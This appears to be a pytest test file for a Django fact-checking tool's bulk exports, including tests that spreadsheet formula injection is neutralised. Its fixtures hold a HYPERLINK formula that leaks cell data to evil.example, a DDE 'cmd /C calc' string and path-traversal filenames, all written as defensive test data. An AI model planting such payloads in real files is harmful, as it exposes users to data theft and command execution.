"""Bulk exports: each format read back, spreadsheet safety, exact text, scoping, query counts."""

import csv
import datetime
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from claims import exports
from claims.exports import (
    COLUMNS,
    FORMULA_PREFIXES,
    SPREADSHEET_COLUMNS,
    export_response,
    invalid_claimreviews,
    neutralise,
    stream_export,
    workspace_verdicts,
    write_export,
    write_xlsx,
)
from claims.models import Correction, Rating, Source
from tests.exports import builders
from tests.exports.test_claimreview import approve
from tests.factories import ArticleFactory, ClaimFactory, SourceFactory, UserFactory

HEADERS = [header for _, header in SPREADSHEET_COLUMNS]
KEYS = [key for key, _ in COLUMNS]
CORRECTED_AT = datetime.datetime(2025, 4, 2, 9, 30, tzinfo=datetime.UTC)


@pytest.fixture(autouse=True)
def site_url(settings):
    settings.SITE_URL = "https://checks.example.org"


# --- Reading each format back ---------------------------------------------------------------


def export_bytes(queryset, fmt, **kwargs) -> bytes:
    out = io.BytesIO()
    write_export(queryset, fmt, out, **kwargs)
    return out.getvalue()


def read_csv(queryset) -> list[dict]:
    data = export_bytes(queryset, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADERS
    return [dict(zip(HEADERS, row, strict=True)) for row in rows[1:]]


def read_xlsx(queryset) -> list[dict]:
    sheet = load_workbook(io.BytesIO(export_bytes(queryset, "xlsx")), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    # openpyxl reads an empty cell back as None, whatever was meant, and leaves trailing
    # empty cells out of a row.
    padding = (None,) * len(HEADERS)
    return [dict(zip(HEADERS, (row + padding)[: len(HEADERS)], strict=True)) for row in rows[1:]]


def read_json(queryset) -> list[dict]:
    return json.loads(export_bytes(queryset, "json"))


def read_jsonl(queryset) -> list[dict]:
    data = export_bytes(queryset, "jsonl").decode("utf-8")
    assert data.endswith("\n")
    return [json.loads(line) for line in data.splitlines()]


def test_csv_has_every_column_as_text(workspace):
    verdict = builders.with_sources(builders.verdict(workspace, summary="Close."), count=2)
    approve(verdict, reason="An older figure.", when=builders.PUBLISHED_AT, summary="Closer.")
    approve(verdict, reason="Typo in the figure.", when=CORRECTED_AT, summary="Close.")
    # Not public yet: not in the export.
    Correction.objects.create(verdict=verdict, reason="Proposed only.")
    [row] = read_csv(workspace_verdicts(workspace))
    claim, article = verdict.claim, verdict.claim.article
    sources = list(claim.sources.order_by("created_at", "pk"))
    assert row == {
        "Verdict ID": str(verdict.pk),
        "Workspace": "Daily Example",
        "Article title": article.title,
        "Article URL": article.source_url,
        "Outlet": "The Daily Example",
        "Claim": claim.text,
        "Claim start": "0",
        "Claim end": str(claim.end),
        "Claim status": "new",
        "Assignee": claim.assignee.display_name,
        "Priority": "Normal",
        "Rating": "Mostly true",
        "Rating value": "4",
        "Summary": "Close.",
        "Explanation": "The ministry reported 3.9 percent.",
        "Verdict status": "published",
        "Author": verdict.author.display_name,
        "Approved by": verdict.approved_by.display_name,
        "Published at": "2025-03-14T23:30:00+00:00",
        "Public URL": f"https://checks.example.org/fact-checks/daily-example/{verdict.pk}/",
        "Sources": f"{sources[0].url} (supports)\n{sources[1].url} (refutes)",
        "Corrections": "2",
        "Latest correction date": "2025-04-02T09:30:00+00:00",
        "Latest correction reason": "Typo in the figure.",
    }


def test_xlsx_writes_numbers_and_dates_as_such(workspace):
    verdict = builders.verdict(workspace)
    draft = builders.verdict(workspace, status="draft", rating_label=None)
    rows = read_xlsx(workspace_verdicts(workspace))
    assert [r["Verdict ID"] for r in rows] == [verdict.pk, draft.pk]
    published, unpublished = rows
    assert published["Rating value"] == 4
    assert published["Claim start"] == 0
    assert published["Corrections"] == 0
    assert (published["Latest correction date"], published["Latest correction reason"]) == (
        None,
        None,
    )
    assert published["Published at"].isoformat() == "2025-03-14T23:30:00"
    assert (unpublished["Rating"], unpublished["Published at"]) == (None, None)
    assert unpublished["Public URL"] is None


def test_xlsx_latest_correction_date_is_a_date_time(workspace):
    approve(builders.verdict(workspace), reason="Typo.", when=CORRECTED_AT, summary="Fixed.")
    [row] = read_xlsx(workspace_verdicts(workspace))
    assert row["Corrections"] == 1
    assert row["Latest correction date"].isoformat() == "2025-04-02T09:30:00"
    assert row["Latest correction reason"] == "Typo."


def test_json_and_jsonl_carry_lists_and_nulls(workspace):
    verdict = builders.with_sources(builders.verdict(workspace), count=1)
    approve(verdict, reason="A second source.", when=CORRECTED_AT, rating_label="True")
    Correction.objects.create(verdict=verdict, reason="Rejected.", status="rejected")
    draft = builders.verdict(workspace, status="draft", rating_label=None)
    for records in (
        read_json(workspace_verdicts(workspace)),
        read_jsonl(workspace_verdicts(workspace)),
    ):
        assert [list(r) for r in records] == [KEYS, KEYS]
        first, second = records
        source = verdict.claim.sources.get()
        assert first["sources"] == [
            {
                "url": source.url,
                "title": "Official statistics",
                "publisher": "Statistics Office",
                "stance": "supports",
            }
        ]
        assert first["corrections"] == [
            {
                "date": "2025-04-02T09:30:00+00:00",
                "changes": [
                    {"field": "rating", "label": "Rating", "old": "Mostly true", "new": "True"}
                ],
                "reason": "A second source.",
            }
        ]
        assert first["rating_value"] == 5 and first["claim_end"] == verdict.claim.end
        assert second["verdict_id"] == draft.pk
        assert (second["rating"], second["rating_value"], second["published_at"]) == (
            None,
            None,
            None,
        )
        assert (second["approved_by"], second["public_url"]) == (None, None)


def test_empty_export_is_still_well_formed(workspace):
    queryset = workspace_verdicts(workspace)
    assert read_csv(queryset) == []
    assert read_xlsx(queryset) == []
    assert read_json(queryset) == []
    assert export_bytes(queryset, "jsonl") == b""
    assert json.loads(export_bytes(queryset, "claimreview")) == []


# --- ClaimReview export ---------------------------------------------------------------------


def test_claimreview_export_leaves_out_and_reports_invalid_verdicts(workspace):
    good = builders.verdict(workspace)
    no_url = builders.verdict(
        workspace, claim=ClaimFactory(article=builders.article(workspace, source_url=""))
    )
    draft = builders.verdict(workspace, status="draft")
    left_out = []
    data = export_bytes(
        workspace_verdicts(workspace),
        "claimreview",
        on_invalid=lambda v, r: left_out.append((v.pk, r)),
    )
    [markup] = json.loads(data)
    assert markup["@type"] == "ClaimReview"
    assert markup["url"].endswith(f"/fact-checks/daily-example/{good.pk}/")
    assert [pk for pk, _ in left_out] == [no_url.pk, draft.pk]
    listed = list(invalid_claimreviews(workspace_verdicts(workspace)))
    assert [(v.pk, reasons) for v, reasons in listed] == left_out
    assert "article has no URL" in " ".join(left_out[0][1])
    assert "not published" in " ".join(left_out[1][1])


def test_claimreview_export_matches_the_single_verdict_markup(workspace):
    from claims.claimreview import build_claimreview
    from tests.exports.test_claimreview import loaded

    verdicts = [builders.verdict(workspace, rating_label=label) for label in ("True", "Misleading")]
    approve(verdicts[0], reason="Checked again.", when=CORRECTED_AT, rating_label="False")
    exported = json.loads(export_bytes(workspace_verdicts(workspace), "claimreview"))
    assert exported == [build_claimreview(loaded(v)) for v in verdicts]
    corrected, plain = exported
    assert corrected["reviewRating"]["alternateName"] == "False"
    assert corrected["dateModified"].startswith("2025-04-02T")
    assert [c["@type"] for c in corrected["correction"]] == ["CorrectionComment"]
    assert "dateModified" not in plain and "correction" not in plain


def test_claimreview_export_is_the_frozen_record(workspace):
    verdict = builders.verdict(workspace)
    before = export_bytes(workspace_verdicts(workspace), "claimreview")
    workspace.ratings.filter(label="Mostly true").update(label="Renamed")
    verdict.claim.article.title = "A new headline"
    verdict.claim.article.save()
    assert export_bytes(workspace_verdicts(workspace), "claimreview") == before


# --- Spreadsheet safety ---------------------------------------------------------------------


def poisoned_verdict(workspace, prefix):
    """A verdict whose every free-text field starts with `prefix`."""
    payload = f'{prefix}HYPERLINK("https://evil.example/?leak="&A1, "click")'
    workspace.name = prefix + "Desk"
    workspace.save()
    body = payload + "\nThe rest of the article."
    article = ArticleFactory(
        workspace=workspace,
        body=body,
        title=payload,
        outlet=payload,
        source_url=prefix + "https://news.example.org/a",
    )
    # No full name, so the username is what the export shows (a full name is stripped).
    person = UserFactory(username=prefix + "cmd|' /C calc'!A0", first_name="", last_name="")
    claim = ClaimFactory(article=article, end=body.index("\n"), assignee=person, status="assigned")
    rating = Rating.objects.create(workspace=workspace, label=prefix + "Rated", position=9)
    verdict = builders.verdict(
        workspace,
        claim=claim,
        rating_label=None,
        rating=rating,
        summary=payload,
        explanation=payload,
        author=person,
        approved_by=UserFactory(username=prefix + "approver", first_name="", last_name=""),
    )
    Source.objects.create(claim=claim, url=prefix + "https://evil.example/x", stance="refutes")
    return verdict


POISONED = {
    "Workspace": lambda v: v.claim.workspace.name,
    "Article title": lambda v: v.claim.article.title,
    "Article URL": lambda v: v.claim.article.source_url,
    "Outlet": lambda v: v.claim.article.outlet,
    "Claim": lambda v: v.claim.text,
    "Assignee": lambda v: v.claim.assignee.display_name,
    "Rating": lambda v: v.rating.label,
    "Summary": lambda v: v.summary,
    "Explanation": lambda v: v.explanation,
    "Author": lambda v: v.author.display_name,
    "Approved by": lambda v: v.approved_by.display_name,
    "Sources": lambda v: f"{v.claim.sources.get().url} (refutes)",
}


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
@pytest.mark.parametrize("reader", [read_csv, read_xlsx], ids=["csv", "xlsx"])
def test_formula_prefixes_are_neutralised_in_every_text_cell(workspace, prefix, reader):
    verdict = poisoned_verdict(workspace, prefix)
    [row] = reader(workspace_verdicts(workspace))
    for header, original in POISONED.items():
        assert original(verdict).startswith(prefix)
        assert row[header] == "'" + original(verdict), header
    for header, cell in row.items():
        if isinstance(cell, str) and cell:
            assert cell[0] not in "=+-@\t\r", header


def test_json_is_never_altered_by_spreadsheet_safety(workspace):
    verdict = poisoned_verdict(workspace, "=")
    [record] = read_json(workspace_verdicts(workspace))
    assert record["summary"] == verdict.summary
    assert record["claim_text"].startswith("=HYPERLINK")


def test_numbers_stay_numbers():
    assert neutralise(-5) == -5
    assert neutralise(3.5) == 3.5
    assert neutralise(None) is None
    assert neutralise("-5") == "'-5"
    assert neutralise("a=b") == "a=b"


# --- Exact text -----------------------------------------------------------------------------

AWKWARD = (
    "Commas, \"double quotes\", 'single' ; semicolons\n"
    "a second line\r\nand a Windows one\ttabbed  "
    "— العربية تُقرأ من اليمين — 中文的说法 — emoji 🧐👩🏽‍🔬🇺🇦"
)


def awkward_verdict(workspace):
    body = f"{AWKWARD}\nNext sentence."
    article = ArticleFactory(workspace=workspace, body=body, title=AWKWARD, outlet=AWKWARD)
    claim = ClaimFactory(article=article, end=len(AWKWARD))
    verdict = builders.verdict(
        workspace, claim=claim, summary=AWKWARD[:280], explanation=AWKWARD * 3
    )
    SourceFactory(claim=claim, url="https://example.org/ünïcode?q=a,b", title=AWKWARD)
    return verdict


@pytest.mark.parametrize("reader", [read_csv, read_xlsx], ids=["csv", "xlsx"])
def test_spreadsheets_round_trip_awkward_text_exactly(workspace, reader):
    verdict = awkward_verdict(workspace)
    [row] = reader(workspace_verdicts(workspace))
    assert row["Claim"] == AWKWARD
    assert row["Article title"] == AWKWARD
    assert row["Outlet"] == AWKWARD
    assert row["Summary"] == AWKWARD[:280]
    assert row["Explanation"] == AWKWARD * 3
    assert row["Sources"] == "https://example.org/ünïcode?q=a,b (supports)"
    assert verdict.claim.text == AWKWARD


@pytest.mark.parametrize("reader", [read_json, read_jsonl], ids=["json", "jsonl"])
def test_json_round_trips_awkward_text_exactly(workspace, reader):
    awkward_verdict(workspace)
    [record] = reader(workspace_verdicts(workspace))
    assert record["claim_text"] == record["article_title"] == AWKWARD
    assert record["explanation"] == AWKWARD * 3
    assert record["sources"][0]["title"] == AWKWARD


# PostgreSQL text cannot hold NUL, and no database holds lone surrogates.
any_text = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"))


@hypothesis_settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(summary=any_text.filter(lambda t: len(t) <= 280), explanation=any_text)
def test_any_text_round_trips(workspace, summary, explanation):
    verdict = builders.verdict(workspace, summary=summary, explanation=explanation)
    queryset = workspace_verdicts(workspace).filter(pk=verdict.pk)
    [record] = read_json(queryset)
    assert (record["summary"], record["explanation"]) == (summary, explanation)
    [row] = read_csv(queryset)
    assert (row["Summary"], row["Explanation"]) == (neutralise(summary), neutralise(explanation))
    [row] = read_xlsx(queryset)
    for cell, text in ((row["Summary"], summary), (row["Explanation"], explanation)):
        expected = neutralise(exports.XML_ILLEGAL_CHARACTERS_RE.sub("", text))
        assert (cell or "") == expected


def test_xlsx_strips_characters_the_format_forbids(workspace):
    builders.verdict(workspace, summary="bell\x07 and \x0bvtab\x1b\ufffe", explanation="=\x01x")
    [row] = read_xlsx(workspace_verdicts(workspace))
    assert row["Summary"] == "bell and vtab"
    assert row["Explanation"] == "'=x"
    [csv_row] = read_csv(workspace_verdicts(workspace))
    assert csv_row["Summary"] == "bell\x07 and \x0bvtab\x1b\ufffe"


def test_xlsx_truncates_text_past_excels_cell_limit(workspace):
    builders.verdict(workspace, explanation="x" * 40_000)
    [row] = read_xlsx(workspace_verdicts(workspace))
    assert row["Explanation"] == "x" * exports.XLSX_CELL_MAX_CHARS


# --- Scope ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json", "jsonl", "claimreview"])
def test_export_contains_only_the_given_workspace(workspace, other_workspace, fmt):
    ours = [builders.verdict(workspace) for _ in range(2)]
    theirs = builders.verdict(other_workspace)
    theirs.claim.article.title = "Secret rival scoop"
    theirs.claim.article.save()
    if fmt == "xlsx":
        cells = [str(v) for row in read_xlsx(workspace_verdicts(workspace)) for v in row.values()]
        data = "\n".join(cells)
    else:
        data = export_bytes(workspace_verdicts(workspace), fmt).decode("utf-8")
    assert "Secret rival scoop" not in data
    assert "rival-desk" not in data and "Rival Desk" not in data
    for verdict in ours:
        assert f"/fact-checks/daily-example/{verdict.pk}/" in data
    assert workspace_verdicts(other_workspace).get() == theirs


def test_status_filter_applies_on_top_of_the_workspace(workspace):
    builders.verdict(workspace)
    draft = builders.verdict(workspace, status="draft")
    records = read_json(workspace_verdicts(workspace).filter(status="draft"))
    assert [r["verdict_id"] for r in records] == [draft.pk]


# --- Streaming and query counts -------------------------------------------------------------

CHUNK = 4
PER_CHUNK = 2  # sources and corrections, prefetched for each chunk of verdicts


def queries_for(queryset, fmt) -> int:
    with CaptureQueriesContext(connection) as captured:
        if fmt == "xlsx":
            write_xlsx(queryset, io.BytesIO(), chunk_size=CHUNK)
        else:
            for _ in stream_export(queryset, fmt, chunk_size=CHUNK):
                pass
    return len(captured.captured_queries)


def add_verdicts(workspace, count):
    for i in range(count):
        verdict = builders.with_sources(builders.verdict(workspace), count=1 + i % 3)
        approve(verdict, reason="Checked again.", when=CORRECTED_AT, summary=f"Take {i}.")


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json", "jsonl", "claimreview"])
def test_queries_are_constant_per_chunk(workspace, fmt):
    add_verdicts(workspace, CHUNK)
    one_chunk = queries_for(workspace_verdicts(workspace), fmt)
    add_verdicts(workspace, 2 * CHUNK)
    three_chunks = queries_for(workspace_verdicts(workspace), fmt)
    assert three_chunks - one_chunk == 2 * PER_CHUNK
    # The rows themselves (one cursor). ClaimReview reads the frozen records, which carry their
    # rating scale: no query for it.
    assert one_chunk == PER_CHUNK + 1


def test_text_formats_arrive_in_pieces(workspace, monkeypatch):
    monkeypatch.setattr(exports, "STREAM_PIECE_BYTES", 100)
    add_verdicts(workspace, 3)
    pieces = list(stream_export(workspace_verdicts(workspace), "jsonl"))
    assert len(pieces) >= 3
    assert all(isinstance(p, bytes) for p in pieces)


# --- The download response ------------------------------------------------------------------


@pytest.mark.parametrize(
    "fmt, content_type, filename",
    [
        ("csv", "text/csv; charset=utf-8", "verdicts-daily-example-marz-2025.csv"),
        (
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "verdicts-daily-example-marz-2025.xlsx",
        ),
        ("json", "application/json", "verdicts-daily-example-marz-2025.json"),
        ("jsonl", "application/jsonl; charset=utf-8", "verdicts-daily-example-marz-2025.jsonl"),
        ("claimreview", "application/ld+json", "verdicts-daily-example-marz-2025.json"),
    ],
)
def test_export_response_headers(workspace, fmt, content_type, filename):
    builders.verdict(workspace)
    response = export_response(
        workspace_verdicts(workspace), fmt, 'Verdicts "Daily Example" — März 2025/../'
    )
    assert response.streaming
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    # Not response.close(): outside the test client it fires request_finished, which closes
    # the database connection inside the test's transaction on PostgreSQL.
    body = b"".join(response.streaming_content)
    assert body == export_bytes(workspace_verdicts(workspace), fmt) or fmt == "xlsx"
    if fmt == "xlsx":
        assert body.startswith(b"PK")
        assert int(response["Content-Length"]) == len(body)


def test_export_response_refuses_unknown_formats(workspace):
    with pytest.raises(ValueError, match="Unknown export format"):
        export_response(workspace_verdicts(workspace), "pdf", "x")


def test_empty_stem_gets_a_default_name(workspace):
    response = export_response(workspace_verdicts(workspace), "csv", "../…")
    assert response["Content-Disposition"] == 'attachment; filename="verdicts.csv"'
